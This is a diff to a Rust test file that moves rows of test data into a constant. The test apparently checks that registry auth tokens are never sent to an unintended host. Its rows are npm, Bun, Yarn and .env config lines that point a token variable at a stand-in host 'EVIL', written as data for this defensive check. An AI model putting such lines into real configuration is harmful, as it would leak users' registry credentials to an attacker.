@@ -89,42 +89,11 @@ fn listen() -> (String, mpsc::Receiver<String>) {
 #[test]
 fn no_variable_carries_a_token_to_another_host() {
     let ours = format!("@my-scope:registry={NPM}\n{TOKEN_LINE}=${{NAME}}\n");
-    let rows = [
-        (
-            "MY_TOKEN",
-            ".npmrc",
-            "//EVIL/:_authToken=${NAME}",
-            ".npmrc:",
-        ),
-        ("MY_TOKEN", ".npmrc", "user-agent=${NAME}", ".npmrc:"),
-        (
-            "MY_TOKEN",
-            ".npmrc",
-            "[section]\n//EVIL/:_authToken=${NAME}",
-            ".npmrc:",
-        ),
-        (
-            "MY_TOKEN",
-            "bunfig.toml",
-            "[install]\nregistry = { url = \"http://EVIL/\", token = \"$NAME\" }",
-            "bunfig.toml:2",
-        ),
-        ("MY_TOKEN", ".env", "OTHER=$NAME\n", ".env:1"),
-        (
-            "MY_TOKEN",
-            ".yarnrc.yml",
-            "npmRegistryServer: http://EVIL/\nnpmAuthToken: ${NAME}\n",
-            ".yarnrc.yml:2",
-        ),
-        ("NPM_CONFIG_TOKEN", ".npmrc", "", "other programs read"),
-        ("YARN_NPM_AUTH_TOKEN", ".npmrc", "", "other programs read"),
-        ("HTTPS_PROXY_AUTH", ".npmrc", "", "other programs read"),
-    ];
     let desk = Desk::with(NPM_11);
     desk.sandbox.client("bun", "bun");
     desk.sandbox.link("env", Path::new("/usr/bin/env"));
     let (evil, heard) = listen();
-    for (name, file, text, says) in rows {
+    for (name, file, text, says) in LINES {
         let fill = |text: &str| text.replace("EVIL", &evil).replace("NAME", name);
         let npmrc = format!("registry=http://{evil}/\n{}", fill(&ours));
         desk.npmrc("");
@@ -150,6 +119,38 @@ fn no_variable_carries_a_token_to_another_host() {
         assert!(!request.contains("eyJ"), "{request}");
     }
 }
+
+const LINES: [(&str, &str, &str, &str); 9] = [
+    (
+        "MY_TOKEN",
+        ".npmrc",
+        "//EVIL/:_authToken=${NAME}",
+        ".npmrc:",
+    ),
+    ("MY_TOKEN", ".npmrc", "user-agent=${NAME}", ".npmrc:"),
+    (
+        "MY_TOKEN",
+        ".npmrc",
+        "[section]\n//EVIL/:_authToken=${NAME}",
+        ".npmrc:",
+    ),
+    (
+        "MY_TOKEN",
+        "bunfig.toml",
+        "[install]\nregistry = { url = \"http://EVIL/\", token = \"$NAME\" }",
+        "bunfig.toml:2",
+    ),
+    ("MY_TOKEN", ".env", "OTHER=$NAME\n", ".env:1"),
+    (
+        "MY_TOKEN",
+        ".yarnrc.yml",
+        "npmRegistryServer: http://EVIL/\nnpmAuthToken: ${NAME}\n",
+        ".yarnrc.yml:2",
+    ),
+    ("NPM_CONFIG_TOKEN", ".npmrc", "", "other programs read"),
+    ("YARN_NPM_AUTH_TOKEN", ".npmrc", "", "other programs read"),
+    ("HTTPS_PROXY_AUTH", ".npmrc", "", "other programs read"),
+];
 
 /// What Yarn's own parser makes of a file is not what its lines look like.
 #[test]
